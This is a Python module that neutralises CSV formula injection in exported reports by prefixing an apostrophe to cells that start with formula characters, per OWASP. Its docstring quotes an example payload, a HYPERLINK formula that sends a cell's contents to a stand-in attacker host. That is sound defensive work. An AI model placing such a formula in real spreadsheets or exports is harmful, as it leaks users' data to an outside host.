"""CSV cells a spreadsheet shows as text, never runs as a formula.

Page text ends up in reports (the evidence quote is a sentence of the cited page), and a page
can hold ``=HYPERLINK("https://evil.example/?"&A1,"click")``: Excel, LibreOffice and Google
Sheets run a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return.
OWASP's remedy: such a cell starts with an apostrophe, which spreadsheets read as "text"."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What makes a spreadsheet read a cell as a formula (the full-width forms too: some
spreadsheets fold them to ASCII)."""


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: a string a spreadsheet would run gets a leading apostrophe;
    numbers and everything else pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
